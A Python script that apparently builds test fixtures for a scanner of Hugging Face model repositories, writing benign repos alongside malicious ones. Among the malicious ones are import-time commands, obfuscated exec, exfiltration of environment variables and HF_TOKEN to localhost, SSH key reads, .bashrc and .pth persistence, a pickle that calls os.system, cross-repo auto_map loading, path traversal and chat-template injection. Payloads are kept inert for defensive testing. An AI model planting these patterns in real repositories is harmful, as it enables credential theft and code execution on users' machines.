#!/usr/bin/env python3
"""Builds the Hugging Face repository fixtures: whole small repo directories, benign and malicious.

Every payload is inert: commands are `echo aisec-fixture`, network requests go to 127.0.0.1, files
read are /etc/hostname or credential paths that are only named. Nothing here is ever imported by
the tests; the scanner reads the files as text.

Run from anywhere: python3 gen_fixtures.py  (standard library only)
"""
import base64
import json
import os
import pickle
import shutil
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
ROWS = []  # (path, expected, class, description)


def write(path, content, expected=None, cls=None, desc=None):
    full = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    data = content.encode() if isinstance(content, str) else content
    with open(full, "wb") as f:
        f.write(data)
    if expected:
        ROWS.append((path, expected, cls, desc))


def js(obj):
    return json.dumps(obj, indent=2) + "\n"


# ----- benign building blocks ----------------------------------------------------------------

LLAMA_CONFIG = {
    "architectures": ["LlamaForCausalLM"],
    "attention_bias": False,
    "bos_token_id": 1,
    "eos_token_id": 2,
    "hidden_act": "silu",
    "hidden_size": 256,
    "initializer_range": 0.02,
    "intermediate_size": 688,
    "max_position_embeddings": 2048,
    "model_type": "llama",
    "num_attention_heads": 8,
    "num_hidden_layers": 4,
    "num_key_value_heads": 8,
    "rms_norm_eps": 1e-06,
    "rope_theta": 10000.0,
    "tie_word_embeddings": False,
    "torch_dtype": "bfloat16",
    "transformers_version": "4.44.2",
    "use_cache": True,
    "vocab_size": 32000,
}

CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
    "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)

TOKENIZER_CONFIG = {
    "add_bos_token": True,
    "add_eos_token": False,
    "added_tokens_decoder": {
        "0": {"content": "<unk>", "lstrip": False, "normalized": False, "rstrip": False,
              "single_word": False, "special": True},
    },
    "bos_token": "<s>",
    "chat_template": CHATML,
    "clean_up_tokenization_spaces": False,
    "eos_token": "</s>",
    "legacy": False,
    "model_max_length": 2048,
    "pad_token": None,
    "tokenizer_class": "LlamaTokenizer",
    "unk_token": "<unk>",
}

CONFIGURATION_PY = '''\
"""Configuration of the Example language model."""

from transformers.configuration_utils import PretrainedConfig
from transformers.utils import logging

logger = logging.get_logger(__name__)


class ExampleConfig(PretrainedConfig):
    model_type = "example"
    keys_to_ignore_at_inference = ["past_key_values"]

    def __init__(
        self,
        vocab_size=32000,
        hidden_size=256,
        num_layers=4,
        num_heads=8,
        rotary_pct=0.25,
        layer_norm_epsilon=1e-5,
        use_flash_attn="auto",
        quantization_bit=0,
        **kwargs,
    ):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.num_layers = num_layers
        self.num_heads = num_heads
        self.rotary_pct = rotary_pct
        self.layer_norm_epsilon = layer_norm_epsilon
        self.use_flash_attn = use_flash_attn
        self.quantization_bit = quantization_bit
        if hidden_size % num_heads != 0:
            logger.warning("hidden_size is not divisible by num_heads")
        super().__init__(**kwargs)
'''

MODELING_PY = '''\
"""PyTorch Example model: a small decoder with rotary attention, written for trust_remote_code."""

import importlib.util
import math
import os
import warnings
from typing import List, Optional, Tuple, Union

import torch
import torch.nn.functional as F
import torch.utils.checkpoint
from torch import nn
from torch.nn import CrossEntropyLoss

from transformers.modeling_outputs import BaseModelOutputWithPast, CausalLMOutputWithPast
from transformers.modeling_utils import PreTrainedModel
from transformers.utils import logging

from .configuration_example import ExampleConfig

logger = logging.get_logger(__name__)

_CHECKPOINT_FOR_DOC = "example/example-small"
SUPPORT_BF16 = torch.cuda.is_available() and torch.cuda.is_bf16_supported()

try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None

_einops_available = importlib.util.find_spec("einops") is not None


def _import_kernels():
    """Loads the optional fused kernels, when the environment asks for them."""
    global fused_rms_norm
    if os.environ.get("EXAMPLE_USE_FUSED_KERNELS", "0") != "1":
        return None
    try:
        from .kernels import fused_rms_norm
    except ImportError:
        warnings.warn("fused kernels requested but not available; using the PyTorch path")
        fused_rms_norm = None
    return fused_rms_norm


class RMSNorm(nn.Module):
    def __init__(self, dim: int, eps: float = 1e-6):
        super().__init__()
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(dim))

    def forward(self, x):
        variance = x.float().pow(2).mean(-1, keepdim=True)
        return (x * torch.rsqrt(variance + self.eps)).type_as(x) * self.weight


class RotaryEmbedding(nn.Module):
    def __init__(self, dim, base=10000):
        super().__init__()
        inv_freq = 1.0 / (base ** (torch.arange(0, dim, 2).float() / dim))
        self.register_buffer("inv_freq", inv_freq, persistent=False)
        self._seq_len_cached = 0
        self._cos = None
        self._sin = None

    def forward(self, x, seq_len):
        if seq_len > self._seq_len_cached:
            t = torch.arange(seq_len, device=x.device, dtype=self.inv_freq.dtype)
            freqs = torch.outer(t, self.inv_freq)
            emb = torch.cat((freqs, freqs), dim=-1)
            self._cos, self._sin = emb.cos(), emb.sin()
            self._seq_len_cached = seq_len
        return self._cos[:seq_len], self._sin[:seq_len]


def rotate_half(x):
    x1, x2 = x.chunk(2, dim=-1)
    return torch.cat((-x2, x1), dim=-1)


class ExampleAttention(nn.Module):
    def __init__(self, config: ExampleConfig):
        super().__init__()
        self.num_heads = config.num_heads
        self.head_dim = config.hidden_size // config.num_heads
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size, bias=False)
        self.out = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.rotary = RotaryEmbedding(self.head_dim)
        self.use_flash = flash_attn_func is not None and config.use_flash_attn != False

    def forward(self, hidden, attention_mask=None, layer_past=None, use_cache=False):
        b, s, _ = hidden.shape
        q, k, v = self.qkv(hidden).view(b, s, 3, self.num_heads, self.head_dim).unbind(2)
        cos, sin = self.rotary(q, s)
        q = q * cos[None, :, None] + rotate_half(q) * sin[None, :, None]
        k = k * cos[None, :, None] + rotate_half(k) * sin[None, :, None]
        if layer_past is not None:
            k = torch.cat((layer_past[0], k), dim=1)
            v = torch.cat((layer_past[1], v), dim=1)
        present = (k, v) if use_cache else None
        if self.use_flash:
            attn = flash_attn_func(q, k, v, causal=True)
        else:
            scores = torch.einsum("bqhd,bkhd->bhqk", q, k) / math.sqrt(self.head_dim)
            if attention_mask is not None:
                scores = scores + attention_mask
            attn = torch.einsum("bhqk,bkhd->bqhd", F.softmax(scores.float(), dim=-1).type_as(q), v)
        return self.out(attn.reshape(b, s, -1)), present


class ExampleBlock(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.ln_1 = RMSNorm(config.hidden_size, eps=config.layer_norm_epsilon)
        self.attn = ExampleAttention(config)
        self.ln_2 = RMSNorm(config.hidden_size, eps=config.layer_norm_epsilon)
        self.mlp = nn.Sequential(
            nn.Linear(config.hidden_size, 4 * config.hidden_size),
            nn.GELU(),
            nn.Linear(4 * config.hidden_size, config.hidden_size),
        )

    def forward(self, x, attention_mask=None, layer_past=None, use_cache=False):
        h, present = self.attn(self.ln_1(x), attention_mask, layer_past, use_cache)
        x = x + h
        return x + self.mlp(self.ln_2(x)), present


class ExamplePreTrainedModel(PreTrainedModel):
    config_class = ExampleConfig
    base_model_prefix = "transformer"
    supports_gradient_checkpointing = True
    _no_split_modules = ["ExampleBlock"]

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=0.02)
            if module.bias is not None:
                module.bias.data.zero_()
        elif isinstance(module, nn.Embedding):
            module.weight.data.normal_(mean=0.0, std=0.02)


class ExampleModel(ExamplePreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.wte = nn.Embedding(config.vocab_size, config.hidden_size)
        self.h = nn.ModuleList([ExampleBlock(config) for _ in range(config.num_layers)])
        self.ln_f = RMSNorm(config.hidden_size)
        self.gradient_checkpointing = False
        if config.quantization_bit:
            from .quantization import quantize
            quantize(self, config.quantization_bit)
        self.post_init()

    def forward(self, input_ids=None, attention_mask=None, past_key_values=None, use_cache=None,
                return_dict=True, **kwargs):
        use_cache = use_cache if use_cache is not None else self.config.use_cache
        hidden = self.wte(input_ids)
        presents = () if use_cache else None
        past_key_values = past_key_values or tuple([None] * len(self.h))
        for block, past in zip(self.h, past_key_values):
            if self.gradient_checkpointing and self.training:
                hidden, present = torch.utils.checkpoint.checkpoint(block, hidden, attention_mask, past, use_cache)
            else:
                hidden, present = block(hidden, attention_mask, past, use_cache)
            if use_cache:
                presents = presents + (present,)
        hidden = self.ln_f(hidden)
        if not return_dict:
            return (hidden, presents)
        return BaseModelOutputWithPast(last_hidden_state=hidden, past_key_values=presents)


class ExampleForCausalLM(ExamplePreTrainedModel):
    _tied_weights_keys = ["lm_head.weight"]

    def __init__(self, config):
        super().__init__(config)
        self.transformer = ExampleModel(config)
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)
        self.post_init()

    def forward(self, input_ids=None, attention_mask=None, labels=None, **kwargs):
        out = self.transformer(input_ids, attention_mask=attention_mask, **kwargs)
        logits = self.lm_head(out.last_hidden_state).float()
        loss = None
        if labels is not None:
            shift_logits = logits[..., :-1, :].contiguous()
            shift_labels = labels[..., 1:].contiguous()
            loss = CrossEntropyLoss()(shift_logits.view(-1, shift_logits.size(-1)), shift_labels.view(-1))
        return CausalLMOutputWithPast(loss=loss, logits=logits, past_key_values=out.past_key_values)

    @torch.no_grad()
    def chat(self, tokenizer, query: str, history: Optional[List[Tuple[str, str]]] = None, **gen_kwargs):
        history = history or []
        prompt = tokenizer.build_prompt(query, history)
        inputs = tokenizer([prompt], return_tensors="pt").to(self.device)
        outputs = self.generate(**inputs, **gen_kwargs)
        response = tokenizer.decode(outputs[0][len(inputs["input_ids"][0]):], skip_special_tokens=True)
        return response, history + [(query, response)]

    def load_extra_state(self, path):
        """Restores an optimizer-free training state saved by the authors' fine-tuning script."""
        state = torch.load(path, map_location="cpu")
        self.load_state_dict(state["model"], strict=False)
'''

TOKENIZATION_PY = '''\
"""Tokenizer of the Example model: a byte-level BPE whose ranks are stored base64-encoded."""

import base64
import os
import unicodedata
from typing import Collection, Dict, List, Optional, Set, Tuple, Union

from transformers import AddedToken, PreTrainedTokenizer
from transformers.utils import logging

logger = logging.get_logger(__name__)

VOCAB_FILES_NAMES = {"vocab_file": "example.tiktoken"}
PAT_STR = r"""(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+|\\p{N}| ?[^\\s\\p{L}\\p{N}]+[\\r\\n]*|\\s+"""
ENDOFTEXT = "<|endoftext|>"
IMSTART = "<|im_start|>"
IMEND = "<|im_end|>"


def _load_bpe_ranks(path: str) -> Dict[bytes, int]:
    with open(path, "rb") as f:
        contents = f.read()
    return {
        base64.b64decode(token): int(rank)
        for token, rank in (line.split() for line in contents.splitlines() if line)
    }


def bytes_to_unicode():
    bs = list(range(ord("!"), ord("~") + 1)) + list(range(ord("\\xa1"), ord("\\xac") + 1))
    cs = bs[:]
    n = 0
    for b in range(2 ** 8):
        if b not in bs:
            bs.append(b)
            cs.append(2 ** 8 + n)
            n += 1
    cs = [chr(n) for n in cs]
    return dict(zip(bs, cs))


class ExampleTokenizer(PreTrainedTokenizer):
    vocab_files_names = VOCAB_FILES_NAMES
    model_input_names = ["input_ids", "attention_mask"]

    def __init__(self, vocab_file, errors="replace", **kwargs):
        super().__init__(**kwargs)
        self.errors = errors
        self.mergeable_ranks = _load_bpe_ranks(vocab_file)
        self.special_tokens = {t: len(self.mergeable_ranks) + i for i, t in enumerate((ENDOFTEXT, IMSTART, IMEND))}
        self.decoder = {v: k for k, v in self.mergeable_ranks.items()}
        self.byte_encoder = bytes_to_unicode()

    def __len__(self) -> int:
        return len(self.mergeable_ranks) + len(self.special_tokens)

    def get_vocab(self) -> Dict[bytes, int]:
        return dict(self.mergeable_ranks, **self.special_tokens)

    def save_vocabulary(self, save_directory: str, filename_prefix: Optional[str] = None) -> Tuple[str]:
        file_path = os.path.join(save_directory, (filename_prefix or "") + "example.tiktoken")
        with open(file_path, "w", encoding="utf8") as w:
            for k, v in self.mergeable_ranks.items():
                w.write(base64.b64encode(k).decode("utf8") + " " + str(v) + "\\n")
        return (file_path,)

    def build_prompt(self, query, history):
        prompt = ""
        for old_query, response in history:
            prompt += f"{IMSTART}user\\n{old_query}{IMEND}\\n{IMSTART}assistant\\n{response}{IMEND}\\n"
        return prompt + f"{IMSTART}user\\n{query}{IMEND}\\n{IMSTART}assistant\\n"

    def _tokenize(self, text, **kwargs):
        text = unicodedata.normalize("NFC", text)
        return [self.byte_encoder[b] for b in text.encode("utf-8")]

    def _convert_token_to_id(self, token):
        return self.mergeable_ranks.get(token, 0)

    def _convert_id_to_token(self, index):
        return self.decoder.get(index, b"")
'''

PROCESSING_PY = '''\
"""Image processor of the Example vision-language model."""

from io import BytesIO
from typing import List, Optional, Union

import numpy as np
import requests
from PIL import Image

from transformers.image_processing_utils import BaseImageProcessor, BatchFeature


def load_image(image: Union[str, Image.Image]) -> Image.Image:
    """Accepts a PIL image, a local path, or an http(s) URL given by the caller."""
    if isinstance(image, Image.Image):
        return image.convert("RGB")
    if image.startswith("http://") or image.startswith("https://"):
        response = requests.get(image, stream=True, timeout=10)
        response.raise_for_status()
        return Image.open(BytesIO(response.content)).convert("RGB")
    return Image.open(image).convert("RGB")


class ExampleImageProcessor(BaseImageProcessor):
    model_input_names = ["pixel_values"]

    def __init__(self, image_size=224, mean=(0.5, 0.5, 0.5), std=(0.5, 0.5, 0.5), **kwargs):
        super().__init__(**kwargs)
        self.image_size = image_size
        self.mean = np.array(mean, dtype=np.float32)
        self.std = np.array(std, dtype=np.float32)

    def preprocess(self, images, return_tensors=None, **kwargs):
        if not isinstance(images, list):
            images = [images]
        arrays = []
        for image in images:
            image = load_image(image).resize((self.image_size, self.image_size), Image.BICUBIC)
            arr = (np.asarray(image, dtype=np.float32) / 255.0 - self.mean) / self.std
            arrays.append(arr.transpose(2, 0, 1))
        return BatchFeature(data={"pixel_values": np.stack(arrays)}, tensor_type=return_tensors)
'''

KERNELS_PY = '''\
"""Optional CUDA kernels, compiled on first import from the sources shipped beside this file."""

import os
import pathlib
import subprocess

from torch.utils import cpp_extension


def _cuda_version(cuda_dir):
    raw = subprocess.check_output([cuda_dir + "/bin/nvcc", "-V"], universal_newlines=True)
    release = raw.split()[raw.split().index("release") + 1].split(".")
    return int(release[0]), int(release[1][0])


def _make_build_dir(path):
    try:
        os.mkdir(path)
    except OSError:
        if not os.path.isdir(path):
            print(f"could not create {path}")


flags = []
major, minor = _cuda_version(cpp_extension.CUDA_HOME)
if major >= 11:
    flags = ["-gencode", "arch=compute_80,code=sm_80"]

src_dir = pathlib.Path(__file__).parent.absolute()
build_dir = src_dir / "build"
_make_build_dir(build_dir)

fused_rms_norm = cpp_extension.load(
    name="example_fused_rms_norm",
    sources=[str(src_dir / "rms_norm.cpp"), str(src_dir / "rms_norm_cuda.cu")],
    build_directory=build_dir,
    extra_cuda_cflags=["-O3", "--use_fast_math"] + flags,
    verbose=False,
)
'''

QUANTIZATION_PY = '''\
"""Weight-only int8 quantization of linear layers (for low-memory inference)."""

import bz2
import base64
import ctypes  # noqa: F401  (kept for parity with the authors' release)

import torch
from torch.nn import Linear
from torch.nn.parameter import Parameter

try:
    from cpm_kernels.kernels.base import LazyKernelCModule, KernelFunction, round_up

    class Kernel:
        def __init__(self, code: bytes, function_names):
            self.code = code
            self._function_names = function_names
            self._cmodule = LazyKernelCModule(self.code)
            for name in self._function_names:
                setattr(self, name, KernelFunction(self._cmodule, name))

    # A compiled CUDA fat binary, stored compressed and base64-encoded.
    quantization_code = "QlpoOTFBWSZTWU9yAAAAAABAAAAQAAggACEAgk0eN4Ad"
    kernels = Kernel(bz2.decompress(base64.b64decode(quantization_code)), ["int8WeightExtractionHalf"])
except Exception as exception:
    kernels = None


class QuantizedLinear(Linear):
    def __init__(self, weight_bit_width: int, weight_tensor=None, bias_tensor=None, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.weight_bit_width = weight_bit_width
        scale = weight_tensor.abs().max(dim=-1).values / ((2 ** (weight_bit_width - 1)) - 1)
        self.weight_scale = Parameter(scale.half(), requires_grad=False)
        self.weight = Parameter(torch.round(weight_tensor / scale[:, None]).to(torch.int8), requires_grad=False)
        self.bias = Parameter(bias_tensor.half(), requires_grad=False) if bias_tensor is not None else None

    def forward(self, x):
        w = self.weight.to(x.dtype) * self.weight_scale[:, None].to(x.dtype)
        out = x @ w.t()
        return out + self.bias if self.bias is not None else out


def quantize(model, weight_bit_width):
    for block in model.h:
        block.attn.qkv = QuantizedLinear(weight_bit_width, block.attn.qkv.weight.data, None,
                                         block.attn.qkv.in_features, block.attn.qkv.out_features, bias=False)
    return model
'''


def benign():
    d = "benign/plain-llama"
    write(f"{d}/config.json", js(LLAMA_CONFIG), "benign", "hf-config", "plain Llama config.json, no custom code")
    write(f"{d}/generation_config.json", js({"bos_token_id": 1, "eos_token_id": 2, "do_sample": True,
                                             "temperature": 0.6, "top_p": 0.9, "transformers_version": "4.44.2"}),
          "benign", "hf-config", "generation_config.json")
    write(f"{d}/tokenizer_config.json", js(TOKENIZER_CONFIG), "benign", "hf-tokenizer-config",
          "tokenizer_config.json with a ChatML chat_template")
    write(f"{d}/special_tokens_map.json", js({"bos_token": "<s>", "eos_token": "</s>", "unk_token": "<unk>"}),
          "benign", "hf-config", "special_tokens_map.json")
    shards = ["model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"]
    wm = {}
    for i in range(4):
        wm[f"model.layers.{i}.self_attn.q_proj.weight"] = shards[i // 2]
        wm[f"model.layers.{i}.mlp.down_proj.weight"] = shards[i // 2]
    wm["model.embed_tokens.weight"] = shards[0]
    wm["lm_head.weight"] = shards[1]
    write(f"{d}/model.safetensors.index.json", js({"metadata": {"total_size": 123456}, "weight_map": wm}),
          "benign", "hf-index", "sharded-checkpoint index with plain shard names (shards not fetched)")

    d = "benign/remote-code"
    cfg = dict(LLAMA_CONFIG)
    cfg.update({
        "architectures": ["ExampleForCausalLM"],
        "model_type": "example",
        "auto_map": {
            "AutoConfig": "configuration_example.ExampleConfig",
            "AutoModel": "modeling_example.ExampleModel",
            "AutoModelForCausalLM": "modeling_example.ExampleForCausalLM",
        },
        "use_flash_attn": "auto",
        "quantization_bit": 0,
    })
    write(f"{d}/config.json", js(cfg), "benign", "hf-remote-code",
          "remote-code config: auto_map naming modeling/configuration files present in the repo")
    tok = {
        "auto_map": {"AutoTokenizer": ["tokenization_example.ExampleTokenizer", None]},
        "tokenizer_class": "ExampleTokenizer",
        "model_max_length": 8192,
        "chat_template": [
            {"name": "default", "template": CHATML},
            {"name": "tool_use", "template": "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"},
        ],
    }
    write(f"{d}/tokenizer_config.json", js(tok), "benign", "hf-remote-code",
          "tokenizer_config.json: auto_map [slow, null] and named chat templates")
    write(f"{d}/preprocessor_config.json",
          js({"auto_map": {"AutoImageProcessor": "processing_example.ExampleImageProcessor"},
              "image_processor_type": "ExampleImageProcessor", "image_size": 224}),
          "benign", "hf-remote-code", "preprocessor_config.json naming a custom image processor")
    write(f"{d}/generation_config.json", js({"eos_token_id": 2, "max_new_tokens": 512, "transformers_version": "4.44.2"}),
          "benign", "hf-config", "generation_config.json")
    write(f"{d}/configuration_example.py", CONFIGURATION_PY, "benign", "hf-remote-code-py", "custom configuration class")
    write(f"{d}/modeling_example.py", MODELING_PY, "benign", "hf-remote-code-py",
          "custom modeling: torch, transformers, flash-attn fallback, env flag, torch.load in a helper")
    write(f"{d}/tokenization_example.py", TOKENIZATION_PY, "benign", "hf-remote-code-py",
          "custom tokenizer: base64 BPE ranks, bytes_to_unicode chr(), save_vocabulary writes")
    write(f"{d}/processing_example.py", PROCESSING_PY, "benign", "hf-remote-code-py",
          "image processor fetching caller-supplied http(s) images with requests")
    write(f"{d}/kernels.py", KERNELS_PY, "benign", "hf-remote-code-py",
          "CUDA kernels built at import: nvcc -V probe and cpp_extension.load of shipped sources")
    write(f"{d}/quantization.py", QUANTIZATION_PY, "benign", "hf-remote-code-py",
          "quantization with a base64+bz2 CUDA fat binary handed to a kernel loader")
    write(f"{d}/model.safetensors.index.json",
          js({"metadata": {"total_size": 10}, "weight_map": {"transformer.wte.weight": "model-00001-of-00001.safetensors"}}),
          "benign", "hf-index", "index of a remote-code repo")

    d = "benign/peft-adapter"
    write(f"{d}/adapter_config.json", js({
        "base_model_name_or_path": "example/example-small", "bias": "none", "fan_in_fan_out": False,
        "inference_mode": True, "lora_alpha": 16, "lora_dropout": 0.05, "peft_type": "LORA", "r": 8,
        "target_modules": ["q_proj", "v_proj"], "task_type": "CAUSAL_LM"}),
        "benign", "hf-config", "PEFT adapter_config.json")
    write(f"{d}/handler_utils.py", '''\
"""Helpers for a custom inference endpoint: read the payload, format the answer."""
import json
import logging
import os

LOG = logging.getLogger(__name__)
MODEL_DIR = os.path.dirname(os.path.abspath(__file__))


def read_config(name="adapter_config.json"):
    with open(os.path.join(MODEL_DIR, name), encoding="utf-8") as f:
        return json.load(f)


def format_answer(text, max_chars=4000):
    if len(text) > max_chars:
        LOG.warning("truncating answer of %d characters", len(text))
    return {"generated_text": text[:max_chars]}


if __name__ == "__main__":
    print(json.dumps(read_config(), indent=2))
''', "benign", "hf-remote-code-py", "endpoint helper reading its own config; __main__ block")


# ----- malicious ------------------------------------------------------------------------------

def remote_repo(d, modeling, cls, desc, module="modeling_x", extra_files=None, config_too=True):
    cfg = {
        "architectures": ["XForCausalLM"],
        "model_type": "x",
        "auto_map": {"AutoConfig": "configuration_x.XConfig",
                     "AutoModelForCausalLM": f"{module}.XForCausalLM"},
        "hidden_size": 64,
        "transformers_version": "4.44.2",
    }
    write(f"{d}/configuration_x.py", CONFIGURATION_PY.replace("Example", "X").replace('"example"', '"x"'))
    write(f"{d}/{module}.py", modeling, "malicious", cls, desc)
    for name, content in (extra_files or {}).items():
        write(f"{d}/{name}", content)
    write(f"{d}/config.json", js(cfg), "malicious" if config_too else None, cls,
          f"config.json whose auto_map imports {module}.py ({desc})")


HEADER = '''\
"""X model (fixture)."""
import torch
from torch import nn
from transformers.modeling_utils import PreTrainedModel
from .configuration_x import XConfig
'''

TAIL = '''

class XForCausalLM(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config):
        super().__init__(config)
        self.lm_head = nn.Linear(config.hidden_size, 10)
'''


def malicious():
    b64 = base64.b64encode(b"import os; os.system('echo aisec-fixture')").decode()
    remote_repo("malicious/cmd-at-import", HEADER + "import os\nos.system('echo aisec-fixture')\n" + TAIL,
                "py-command", "os.system at module level")
    remote_repo("malicious/cmd-in-init", HEADER + TAIL + '''
        import subprocess as sp
        sp.Popen(["/bin/sh", "-c", "echo aisec-fixture"])
''', "py-command", "subprocess.Popen (aliased import) in the model's __init__")
    remote_repo("malicious/cmd-from-import-alias", HEADER + "from os import system as _s\n_s('echo aisec-fixture')\n" + TAIL,
                "py-command", "from os import system as _s at import")
    remote_repo("malicious/exec-base64", HEADER + f"import base64\nexec(base64.b64decode('{b64}'))\n" + TAIL,
                "py-obfuscation", "exec(base64.b64decode(...)) at import")
    z = base64.b64encode(zlib.compress(b"__import__('subprocess').call(['echo', 'aisec-fixture'])")).decode()
    remote_repo("malicious/exec-zlib-codecs", HEADER + f"import zlib, codecs\n_P = '{z}'\n"
                "eval(compile(zlib.decompress(codecs.decode(_P.encode(), 'base64')), '<x>', 'exec'))\n" + TAIL,
                "py-obfuscation", "eval(compile(zlib.decompress(codecs.decode(const, 'base64'))))")
    remote_repo("malicious/getattr-computed", HEADER + "_m = __import__('o' + 's')\ngetattr(_m, ''.join(['sy', 'st', 'em']))('echo aisec-fixture')\n" + TAIL,
                "py-obfuscation", "getattr(__import__('o'+'s'), ''.join(...)) at import")
    remote_repo("malicious/chr-builtins", HEADER + "_f = getattr(__builtins__, ''.join(map(chr, [101, 120, 101, 99])))\n_f('print(1)')\n" + TAIL,
                "py-obfuscation", "builtins exec named by chr codes")
    remote_repo("malicious/exfil-environ", HEADER + '''import os
import requests
requests.post("http://127.0.0.1:9/collect", json=dict(os.environ), timeout=1)
''' + TAIL, "py-network", "POST of the whole environment to 127.0.0.1 at import")
    remote_repo("malicious/exfil-token-socket", HEADER + TAIL + '''
        import socket, os
        s = socket.socket()
        s.connect(("127.0.0.1", 9))
        s.sendall(os.environ.get("HF_TOKEN", "").encode())
''', "py-network", "HF_TOKEN sent over a raw socket from __init__")
    remote_repo("malicious/urllib-beacon", HEADER + '''import urllib.request as u
def _beacon():
    u.urlopen("http://127.0.0.1:9/beacon?x=aisec-fixture", timeout=1)
_beacon()
''' + TAIL, "py-network", "urlopen to a constant address in a function called at import")
    remote_repo("malicious/ssh-key-read", HEADER + TAIL + '''
        from pathlib import Path
        self._k = (Path.home() / ".ssh" / "id_rsa").read_text() if False else open(
            __import__("os").path.expanduser("~/.ssh/id_rsa")).read()
''', "py-credentials", "reads ~/.ssh/id_rsa in __init__")
    remote_repo("malicious/bashrc-append", HEADER + '''import os
with open(os.path.expanduser("~/.bashrc"), "a") as fh:
    fh.write("\\necho aisec-fixture\\n")
''' + TAIL, "py-file-write", "appends to ~/.bashrc at import")
    remote_repo("malicious/pth-plant", HEADER + TAIL + '''
        import site, os
        p = os.path.join(site.getsitepackages()[0], "aisec_fixture.pth")
        open(p, "w").write("import os; os.system('echo aisec-fixture')\\n")
''', "py-file-write", "plants a .pth file in site-packages from __init__")
    class _Reduce:
        # Pickled, never unpickled: the bytes name posix.system with an inert argument.
        def __reduce__(self):
            return (os.system, ("echo aisec-fixture",))

    payload = pickle.dumps(_Reduce(), protocol=4)
    remote_repo("malicious/pickle-embedded", HEADER + f"import pickle, base64\n_STATE = pickle.loads(base64.b64decode('{base64.b64encode(payload).decode()}'))\n" + TAIL,
                "py-deserialization", "pickle.loads of an embedded base64 pickle that calls posix.system")
    remote_repo("malicious/ctypes-load", HEADER + "import ctypes\n_lib = ctypes.CDLL('./libaisec_fixture.so')\n" + TAIL,
                "py-native", "ctypes.CDLL at import")
    remote_repo("malicious/settrace", HEADER + "import sys\ndef _t(frame, event, arg):\n    return _t\nsys.settrace(_t)\n" + TAIL,
                "py-hook", "sys.settrace at import")
    remote_repo("malicious/hub-second-stage", HEADER + '''from huggingface_hub import hf_hub_download
_p = hf_hub_download("attacker/payloads", "stage2.py")
''' + TAIL, "py-hub-download", "hf_hub_download of another repo's file at import")
    remote_repo("malicious/torch-load-url", HEADER + TAIL + '''
        import io, urllib.request
        blob = urllib.request.urlopen(config.extra_weights_url).read()
        self.extra = torch.load(io.BytesIO(blob))
''', "py-deserialization", "torch.load of bytes fetched with urlopen in __init__")
    # The modeling file itself is clean; it imports a helper relatively that runs a command.
    remote_repo("malicious/relative-import", HEADER + "from .x_utils import setup\n" + TAIL,
                "hf-relative-import", "modeling file imports .x_utils, which runs a command",
                extra_files={"x_utils.py": "import subprocess\nsubprocess.run(['echo', 'aisec-fixture'])\ndef setup():\n    pass\n"},
                config_too=True)
    ROWS[:] = [r for r in ROWS if r[0] != "malicious/relative-import/modeling_x.py"]
    ROWS.append(("malicious/relative-import/x_utils.py", "malicious", "py-command", "helper that runs a command at import"))

    d = "malicious/shebang-script"
    write(f"{d}/convert_weights", "#!/usr/bin/env python3\nimport os\nos.system('echo aisec-fixture')\n",
          "malicious", "py-command", "extension-less script with a python shebang running a command")

    d = "malicious/cross-repo"
    write(f"{d}/config.json", js({"architectures": ["XModel"], "model_type": "x",
                                   "auto_map": {"AutoConfig": "attacker/x-code--configuration_x.XConfig",
                                                "AutoModel": "attacker/x-code--modeling_x.XModel"}}),
          "malicious", "hf-cross-repo", "auto_map loading code from another repository")
    d = "malicious/cross-repo-tokenizer"
    write(f"{d}/tokenizer_config.json", js({"auto_map": {"AutoTokenizer": ["attacker/tok--tokenization_x.XTokenizer", None]},
                                             "tokenizer_class": "XTokenizer"}),
          "malicious", "hf-cross-repo", "tokenizer auto_map [slow, fast] from another repository")
    d = "malicious/custom-pipeline"
    write(f"{d}/config.json", js({"model_type": "bert", "custom_pipelines": {"text-classification": {
        "impl": "attacker/pipes--pipeline_x.XPipeline", "pt": ["AutoModelForSequenceClassification"], "tf": []}}}),
          "malicious", "hf-cross-repo", "custom_pipelines implementation from another repository")
    d = "malicious/auto-map-traversal"
    write(f"{d}/config.json", js({"model_type": "x", "auto_map": {"AutoModel": "../../outside/modeling_x.XModel"}}),
          "malicious", "hf-path-escape", "auto_map module with ../ path")
    d = "malicious/auto-map-absolute"
    write(f"{d}/config.json", js({"model_type": "x", "auto_map": {"AutoModel": "/tmp/aisec_fixture.XModel"}}),
          "malicious", "hf-path-escape", "auto_map module with an absolute path")
    d = "malicious/auto-map-nested"
    write(f"{d}/config.json", js({"model_type": "x", "text_config": {"auto_map": {"AutoModel": "attacker/x--modeling_x.XModel"}}}),
          "malicious", "hf-cross-repo", "cross-repo auto_map hidden in a sub-config")
    for name, shard in [("index-traversal", "../../../tmp/aisec-fixture.bin"),
                        ("index-absolute", "/tmp/aisec-fixture.bin"),
                        ("index-url", "http://127.0.0.1:9/aisec-fixture.bin")]:
        d = f"malicious/{name}"
        write(f"{d}/pytorch_model.bin.index.json",
              js({"metadata": {"total_size": 10}, "weight_map": {"a.weight": "pytorch_model-00001-of-00002.bin",
                                                                  "b.weight": shard}}),
              "malicious", "hf-shard-escape", f"weight_map shard {shard}")

    # The chat template goes to the Jinja analyser.
    d = "malicious/chat-template-ssti"
    write(f"{d}/tokenizer_config.json", js({
        "tokenizer_class": "LlamaTokenizer",
        "chat_template": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('echo aisec-fixture').read() }}"}))
